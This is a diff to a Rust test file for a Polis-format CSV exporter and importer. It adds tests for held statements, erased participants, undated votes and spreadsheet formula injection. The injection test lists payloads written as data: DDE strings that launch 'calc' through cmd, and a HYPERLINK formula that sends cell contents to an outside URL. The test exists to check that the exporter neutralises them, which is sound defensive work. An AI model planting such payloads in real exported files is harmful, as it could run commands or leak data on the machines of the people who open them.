@@ -1,23 +1,21 @@
-//! What is written as a Polis set reads back; what is written as tidy tables reads well.
+//! What is written as a Polis set reads back, and is safe to open.
 
-use crate::fixture::{Latest, latest};
+use crate::fixture::{Latest, findings, latest, naive_csv};
 use canvass_domain::{
-    Arrival, ArrivedVia, Assurance, Attribute, Ballot, Declared, Event, Fact, Instrument, Millis, OptionId, Origin,
-    ParticipantId, Poll, PollKind, PollOption, Provenance, Seq, Showing, Slug, Statement, StatementId, StatementState,
-    Transcript, Vote,
+    Arrival, ArrivedVia, Assurance, Event, Fact, Instrument, Millis, Origin, ParticipantId, Provenance, Seq, Statement,
+    StatementId, StatementState, Transcript, Vote,
 };
 use canvass_formats::{
-    conversation_file,
+    made,
     polis::{self, read_folder},
-    tidy,
 };
 use insta::assert_snapshot;
 use proptest::prelude::*;
 use std::fs;
 
-const START_MS: Millis = 1_736_240_400_123;
+pub const START_MS: Millis = 1_736_240_400_123;
 
-fn transcript(facts: impl IntoIterator<Item = Fact>, n_participants: u32, n_statements: u32) -> Transcript {
+pub fn transcript(facts: impl IntoIterator<Item = Fact>, n_participants: u32, n_statements: u32) -> Transcript {
     let arrival = |n| Arrival {
         participant: ParticipantId(n),
         assurance: Assurance::Anonymous,
@@ -32,6 +30,7 @@ fn transcript(facts: impl IntoIterator<Item = Fact>, n_participants: u32, n_stat
         author: None,
         state: StatementState::Accepted,
         reason: None,
+        rule: None,
         decided_here: true,
         added_ms: START_MS,
     };
@@ -57,11 +56,13 @@ fn transcript(facts: impl IntoIterator<Item = Fact>, n_participants: u32, n_stat
             .zip(facts)
             .map(|(seq, fact)| Event { seq: Seq(seq), at_ms: START_MS + 400 * (seq as Millis), fact })
             .collect(),
+        comments: Vec::new(),
         showings: Vec::new(),
+        earlier: Vec::new(),
     }
 }
 
-fn vote(participant: u32, statement: u32, vote: Vote) -> Fact {
+pub fn vote(participant: u32, statement: u32, vote: Vote) -> Fact {
     let (participant, statement) = (ParticipantId(participant), StatementId(statement));
     Fact::VoteCast { participant, statement, vote, version: 1 }
 }
@@ -121,7 +122,7 @@ fn a_polis_set_as_written() {
     let facts =
         [vote(1, 1, Vote::Agree), vote(2, 1, Vote::Unsure), vote(1, 1, Vote::Disagree), vote(1, 2, Vote::Agree)];
     let mut transcript = transcript(facts, 3, 2);
-    transcript.arrivals[0].external_id = Some("abc".to_owned());
+    transcript.arrivals[0].external_id = Some("known elsewhere by this".to_owned());
     transcript.statements[1].author = Some(ParticipantId(1));
     let folder = tempfile::tempdir().unwrap();
     polis::write_folder(folder.path(), &transcript).unwrap();
@@ -139,6 +140,7 @@ fn a_polis_set_as_written() {
     comments,2
     groups,0
     conversation-description,""
+    provenance,synthetic
     == comments.csv
     timestamp,datetime,comment-id,author-id,agrees,disagrees,moderated,comment-body
     1736240400,2025-01-07T09:00:00Z,1,0,1,1,1,"Statement 1, with ""quotes""
@@ -152,9 +154,9 @@ fn a_polis_set_as_written() {
     1736240402,2025-01-07T09:00:02Z,1,2,0
     1736240402,2025-01-07T09:00:02Z,2,1,1
     == participant-votes.csv
-    participant,xid,group-id,n-comments,n-votes,n-agree,n-disagree,1,2
-    1,abc,,1,2,1,1,-1,1
-    2,,,0,1,0,0,0,
+    participant,group-id,n-comments,n-votes,n-agree,n-disagree,1,2
+    1,,1,2,1,1,-1,1
+    2,,0,1,0,0,0,
     == comment-groups.csv
     comment-id,comment,total-votes,total-agrees,total-disagrees,total-passes
     1,"Statement 1, with ""quotes""
@@ -162,8 +164,6 @@ fn a_polis_set_as_written() {
     2,"Statement 2, with ""quotes""
     and a second line",1,1,0,0
     "#);
-    let import = read_folder(folder.path(), &mut |_| ()).unwrap();
-    assert_eq!(import.transcript.arrivals[1].external_id.as_deref(), Some("abc"));
 }
 
 #[test]
@@ -175,101 +175,96 @@ fn words_that_the_desk_declined_stay_inside() {
     assert_eq!(latest(&import.transcript), latest(&transcript));
 }
 
-fn with_everything() -> Transcript {
-    let ballot = Ballot::from_bits(0b11).unwrap();
-    let participant = ParticipantId(1);
-    let facts = [
-        Fact::BallotCast { participant, ballot, version: 1 },
-        vote(1, 1, Vote::Disagree),
-        Fact::StatementSkipped { participant, statement: StatementId(2), version: 1 },
-        Fact::StatementDecided { statement: StatementId(2), state: StatementState::Declined },
-        Fact::Closed,
-    ];
-    let mut transcript = transcript(facts, 2, 2);
-    assert!(ballot.has(OptionId(2)));
-    let option = |text: &str| PollOption { text: text.to_owned(), condition: None };
-    transcript.instrument.poll =
-        Some(Poll { question: "Which?".to_owned(), kind: PollKind::Multiple, options: vec![option("A"), option("B")] });
-    transcript.instrument.attributes = vec![Attribute {
-        key: "role".to_owned(),
-        question: "Your role?".to_owned(),
-        options: vec!["Nurse, ward".to_owned(), "Other".to_owned()],
-    }];
-    transcript.declared = vec![Declared { participant, attribute: "role".to_owned(), option: 0 }];
-    transcript.showings =
-        vec![Showing { participant, statement: StatementId(1), at_ms: START_MS, probability: 1.0 / 3.0 }];
-    transcript
+#[test]
+fn words_that_wait_stay_inside() {
+    let mut transcript = transcript([vote(1, 1, Vote::Agree), vote(1, 2, Vote::Agree)], 1, 3);
+    transcript.statements[1].state = StatementState::Held;
+    transcript.statements[2].state = StatementState::Held;
+    let import = there_and_back(&transcript).transcript;
+    let written: Vec<_> =
+        import.statements.iter().map(|statement| (statement.id.0, statement.text.is_some())).collect();
+    assert_eq!(written, [(1, true), (2, false)], "what waits goes without words, and only if it has votes");
+    assert_eq!(latest(&import), latest(&transcript));
+}
+
+/// The organiser's number is one that nobody has, not even somebody of whom only the log still tells.
+#[test]
+fn the_organiser_is_never_taken_for_somebody_erased() {
+    let erased = Fact::ParticipantErased { participant: ParticipantId(0) };
+    let mut transcript = transcript([vote(0, 1, Vote::Agree), erased], 2, 1);
+    transcript.arrivals.retain(|arrival| arrival.participant.0 != 0);
+    let import = there_and_back(&transcript).transcript;
+    assert_eq!(import.statements[0].author, Some(ParticipantId(3)));
+    assert_eq!(latest(&import), latest(&transcript));
 }
 
 #[test]
-fn tidy_tables_as_written() {
-    let transcript = with_everything();
+fn votes_without_a_date_have_none_afterwards() {
+    let mut transcript = transcript([vote(1, 1, Vote::Agree), vote(2, 2, Vote::Unsure)], 2, 2);
+    let is_vote = |event: &&mut Event| matches!(event.fact, Fact::VoteCast { .. });
+    transcript.events.iter_mut().filter(is_vote).for_each(|event| event.at_ms = 0);
     let folder = tempfile::tempdir().unwrap();
-    let slug = Slug::parse("a-slug").unwrap();
-    tidy::write_folder(folder.path(), &slug, &transcript).unwrap();
-    let read = |name: &str| fs::read_to_string(folder.path().join(name)).unwrap();
-    let file = conversation_file::parse(&read("conversation.toml")).unwrap();
-    assert_eq!((file.slug, file.instrument), (slug, transcript.instrument));
-    let mut all = String::new();
-    for name in
-        ["conversation.toml", "participants.csv", "statements.csv", "comments.csv", "events.csv", "exposures.csv"]
-    {
-        let text = read(name);
-        assert_eq!(name.ends_with(".csv"), text.contains("\r\n"), "{name}");
-        all.push_str(&format!("== {name}\n{}", text.replace("\r\n", "\n")));
+    polis::write_folder(folder.path(), &transcript).unwrap();
+    let votes = fs::read_to_string(folder.path().join("votes.csv")).unwrap();
+    assert_eq!(votes, "timestamp,datetime,comment-id,voter-id,vote\n0,,1,1,1\n0,,2,2,0\n", "no date is made up");
+    let import = read_folder(folder.path(), &mut |_| ()).unwrap();
+    assert_snapshot!(findings(&import), @r"
+    The times in votes.csv are all 0: when votes were cast is not known, and they have no dates here.
+    Which statements the organiser put in is not recorded in these files; all count as participants' own.
+    1 participant wrote a statement and voted on none.
+    ");
+    assert_snapshot!(import.transcript.note.unwrap(), @"Imported from a Polis export. When the votes were cast is not recorded.");
+    let dated = |event: &Event| matches!(event.fact, Fact::VoteCast { .. }) && event.at_ms != 0;
+    assert!(!import.transcript.events.iter().any(dated));
+    assert!(import.transcript.statements.iter().all(|statement| statement.added_ms == START_MS / 1000 * 1000));
+}
+
+const NASTY: [&str; 8] = [
+    "=HYPERLINK(\"https://example.org/?\"&A1,\"click\")",
+    "+1 for the plan",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=quoted already",
+    "'Tis plain",
+];
+
+/// Every cell of every table that is no number begins with something harmless; and every text comes back.
+#[test]
+fn what_a_spreadsheet_takes_for_a_formula_is_neutralised_and_comes_back() {
+    let n = NASTY.len() as u32;
+    let mut transcript = transcript((1..=n).map(|statement| vote(1, statement, Vote::Disagree)), 1, n);
+    for (statement, text) in transcript.statements.iter_mut().zip(NASTY) {
+        statement.text = Some(text.to_owned());
     }
-    assert_snapshot!(all, @r#"
-    == conversation.toml
-    # provenance: synthetic
-    # note: Made by a generator.
-    # note: Nobody answered.
-    slug = "a-slug"
-    title = 'A title, "quoted"'
-    language = "en"
-    background = ""
-    design = "open"
-    gate = "always"
-    new_statements = "hold"
-    comments = "off"
+    transcript.instrument.title = "=cmd()".to_owned();
+    transcript.instrument.background = "@here\nand on".to_owned();
+    let folder = tempfile::tempdir().unwrap();
+    polis::write_folder(folder.path(), &transcript).unwrap();
+    for file in &made::read_mark(folder.path()).unwrap().files {
+        let text = fs::read_to_string(folder.path().join(file)).unwrap();
+        for row in naive_csv(&text) {
+            for cell in row.iter().filter(|cell| cell.parse::<i64>().is_err()) {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{file}: {cell}");
+            }
+        }
+    }
+    let import = there_and_back(&transcript).transcript;
+    let texts: Vec<_> = import.statements.iter().map(|statement| statement.text.as_deref().unwrap()).collect();
+    assert_eq!(texts, NASTY);
+    assert_eq!((import.instrument.title.as_str(), import.instrument.background.as_str()), ("=cmd()", "@here\nand on"));
+    assert_eq!(latest(&import), latest(&transcript));
+}
 
-    [[attribute]]
-    key = "role"
-    question = "Your role?"
-    options = ["Nurse, ward", "Other"]
-
-    [poll]
-    question = "Which?"
-    kind = "multiple"
-
-    [[poll.option]]
-    text = "A"
-
-    [[poll.option]]
-    text = "B"
-    == participants.csv
-    participant,assurance,arrived_via,external_id,first_seen_ms,about_role
-    1,anonymous,direct,,1736240400123,"Nurse, ward"
-    2,anonymous,direct,,1736240400123,
-    == statements.csv
-    statement,added_ms,origin,author,state,decided,reason,text
-    1,1736240400123,organiser,,accepted,here,,"Statement 1, with ""quotes""
-    and a second line"
-    2,1736240400123,organiser,,accepted,here,,"Statement 2, with ""quotes""
-    and a second line"
-    == comments.csv
-    comment,at_ms,participant,parent,about,state,text
-    == events.csv
-    seq,at_ms,kind,participant,object,value,version
-    1,1736240400523,opened,,,,
-    2,1736240400923,statement_added,,1,accepted,
-    3,1736240401323,statement_added,,2,accepted,
-    4,1736240401723,ballot_cast,1,,1 2,1
-    5,1736240402123,vote_cast,1,1,disagree,1
-    6,1736240402523,statement_skipped,1,2,,1
-    7,1736240402923,statement_decided,,2,declined,
-    8,1736240403323,closed,,,,
-    == exposures.csv
-    participant,statement,at_ms,probability
-    1,1,1736240400123,0.3333333333333333
-    "#);
+/// An apostrophe that somebody else wrote is theirs.
+#[test]
+fn only_our_own_apostrophes_are_taken_off() {
+    let mut transcript = transcript([vote(1, 1, Vote::Agree)], 1, 1);
+    transcript.statements[0].text = Some("=1".to_owned());
+    let folder = tempfile::tempdir().unwrap();
+    polis::write_folder(folder.path(), &transcript).unwrap();
+    fs::remove_file(folder.path().join(made::MARK)).unwrap();
+    let import = read_folder(folder.path(), &mut |_| ()).unwrap().transcript;
+    assert_eq!(import.statements[0].text.as_deref(), Some("'=1"));
 }
